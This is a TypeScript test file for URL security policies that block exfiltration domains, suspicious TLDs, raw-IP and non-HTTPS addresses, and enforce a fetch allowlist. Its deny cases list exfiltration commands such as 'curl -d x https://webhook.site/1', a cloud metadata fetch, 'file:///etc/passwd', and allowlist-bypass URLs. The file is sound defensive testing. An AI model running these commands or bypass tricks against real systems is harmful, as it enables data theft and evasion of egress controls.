// The url family.
import * as url from '../../src/policies/url/index.ts'
import { type Case, testPolicy } from './test_policy.ts'

const urls = (...list: readonly string[]): Case[] => list.map((one) => ({ payload: { url: one } }))
const commands = (...list: readonly string[]): Case[] => list.map((command) => ({ payload: { command } }))
const UNREADABLE: Case[] = [
  { payload: { url: 'not an address' }, says: 'cannot be judged' },
  { payload: { url: '/relative' } },
  { payload: { url: 'https://' } },
  { payload: { url: ['https://x.org'] }, code: 'policy_error' }
]
const NOTHING: Case[] = [{ payload: {} }, ...commands('echo https://interact.sh http://1.2.3.4', 'git commit -m "see http://1.2.3.4"')]

testPolicy(url.blockDnsExfilDomains, {
  allows: [
    ...NOTHING,
    ...urls(
      'https://docs.python.org/3/',
      'https://interact.sh.example.com',
      'https://notwebhook.site',
      'https://d111111abcdef8.cloudfront.net/x',
      'https://my-long-branch-name-for-review.preview.example.dev',
      'https://x.org/?q=interact.sh',
      'https://1.2.3.4',
      'https://ec2-54-12-3-4.eu-west-1.compute.amazonaws.com'
    ),
    ...commands('curl https://x.org')
  ],
  denies: [
    ...urls(
      'https://abc.interact.sh/x',
      'http://x.oastify.com',
      'https://webhook.site/uuid',
      'https://WEBHOOK.site./x',
      'https://a.ngrok-free.app',
      'https://6368656c6c6f776f726c6468656c6c6f776f726c64aa.evil.com',
      'https://user@interact.sh',
      'https://ｗebhook.site'
    ),
    ...commands('curl -d x https://webhook.site/1', 'wget http://x.dnslog.cn'),
    { payload: { url: 'https://a.evil.io' }, params: { domains: ['evil.io'] } },
    ...UNREADABLE
  ]
})

testPolicy(url.blockSuspiciousTlds, {
  allows: [
    ...NOTHING,
    ...urls('https://example.com', 'https://example.com/x.zip', 'https://zip.example.com', 'https://10.0.0.1', 'http://localhost')
  ],
  denies: [
    ...urls('https://example.zip', 'https://a.b.XYZ/x', 'http://x.top:8080', 'https://x.mov.'),
    ...commands('curl https://x.tk'),
    { payload: { url: 'https://x.io' }, params: { tlds: ['.io'] } },
    ...UNREADABLE
  ]
})

testPolicy(url.blockRawIpUrls, {
  allows: [
    ...NOTHING,
    ...urls('https://example.com', 'https://1.2.3.4.example.com', 'https://x.org/1.2.3.4'),
    { payload: { url: 'http://127.0.0.1:3000' }, params: { allow_loopback: true } },
    { payload: { url: 'http://[::1]:3000' }, params: { allow_loopback: true } }
  ],
  denies: [
    ...urls(
      'http://1.2.3.4',
      'http://127.0.0.1',
      'http://2130706433/',
      'http://0x7f.1/',
      'http://017700000001',
      'http://[::1]/',
      'http://[::ffff:1.2.3.4]',
      'https://1.2.3.4:8443/x',
      'http://user:pw@10.0.0.1'
    ),
    ...commands('curl 169.254.169.254/latest/meta-data/'),
    { payload: { url: 'http://10.0.0.1' }, params: { allow_loopback: true } },
    ...UNREADABLE
  ]
})

testPolicy(url.requireHttps, {
  allows: [
    ...NOTHING,
    ...urls('https://example.com', 'HTTPS://example.com', 'wss://example.com'),
    { payload: { url: 'http://localhost:3000' }, params: { allow_loopback: true } },
    ...commands('curl https://x.org')
  ],
  denies: [
    ...urls(
      'http://example.com',
      'ftp://example.com',
      'file:///etc/passwd',
      'javascript:alert(1)',
      'http://localhost:3000',
      'http://https://x.org'
    ),
    ...commands('curl http://x.org', 'curl x.org'),
    ...UNREADABLE
  ]
})

testPolicy(url.webfetchDomainAllowlist, {
  params: { allowed: ['example.com', '*.docs.rs', 'Python.org'] },
  allows: [
    ...NOTHING,
    ...urls('https://example.com', 'https://a.example.com/x', 'https://EXAMPLE.com.', 'https://std.docs.rs', 'https://docs.python.org'),
    ...commands('curl https://example.com/x')
  ],
  denies: [
    ...urls(
      'https://example.com.evil.org',
      'https://notexample.com',
      'https://evil.org/example.com',
      'https://example.com@evil.org',
      'https://evil.org#example.com',
      'https://evil.org?example.com',
      'https://evil.org\\@example.com'
    ),
    ...commands('curl https://evil.org', 'curl "https://$HOST/x"'),
    { payload: { url: 'https://example.com' }, params: { allowed: [] } },
    {
      payload: { url: 'https://example.com', urls: ['https://example.com', 'https://evil.org'] },
      why: 'one of several addresses is not listed'
    },
    ...UNREADABLE
  ]
})
